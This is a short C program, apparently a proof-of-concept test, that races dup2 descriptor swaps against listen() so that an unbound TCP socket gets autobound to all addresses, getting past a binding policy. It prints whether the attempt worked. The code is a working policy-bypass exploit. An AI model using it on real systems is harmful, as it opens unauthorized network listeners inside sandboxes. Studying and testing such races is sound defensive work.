/*
 * Puts a TCP socket that is bound to nothing in the place of a unix socket that is told to listen: swap-listen TRIES
 *
 * The kernel then binds it to every address and a free port, whatever a policy says of binding. A thread exchanges the two under one number
 * while another has that number listen, in a process of its own; another process, which has the TCP socket too, looks whether it
 * listens in the end. stdout: "listens" or "does not".
 */
#define _GNU_SOURCE
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

enum { NUMBER = 50 };

static int unix_socket, tcp_socket;
static volatile int over;

static void *swap(void *unused)
{
	while (!over) {
		dup2(unix_socket, NUMBER);
		dup2(tcp_socket, NUMBER);
	}
	return unused;
}

static int fresh_unix_socket(void)
{
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	struct sockaddr_un any = { .sun_family = AF_UNIX };
	bind(fd, (struct sockaddr *)&any, sizeof any.sun_family); /* unix(7) "autobind" */
	return fd;
}

static int listens(int fd)
{
	int answer = 0;
	socklen_t length = sizeof answer;
	getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &answer, &length);
	return answer;
}

static void attack(int tries)
{
	pthread_t swapper;
	unix_socket = fresh_unix_socket();
	dup2(unix_socket, NUMBER);
	pthread_create(&swapper, NULL, swap, NULL);
	for (int i = 0; i < tries && !listens(tcp_socket); i++) {
		listen(NUMBER, 8);
		if (listens(unix_socket)) { /* the next one does not yet */
			int next = fresh_unix_socket();
			dup2(next, unix_socket);
			close(next);
		}
	}
	over = 1;
	pthread_join(swapper, NULL);
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: swap-listen TRIES\n");
		return 2;
	}
	tcp_socket = socket(AF_INET, SOCK_STREAM, 0);
	pid_t child = fork();
	if (child == 0) {
		attack(atoi(argv[1]));
		_exit(0);
	}
	waitpid(child, NULL, 0);
	puts(listens(tcp_socket) ? "listens" : "does not");
	return 0;
}
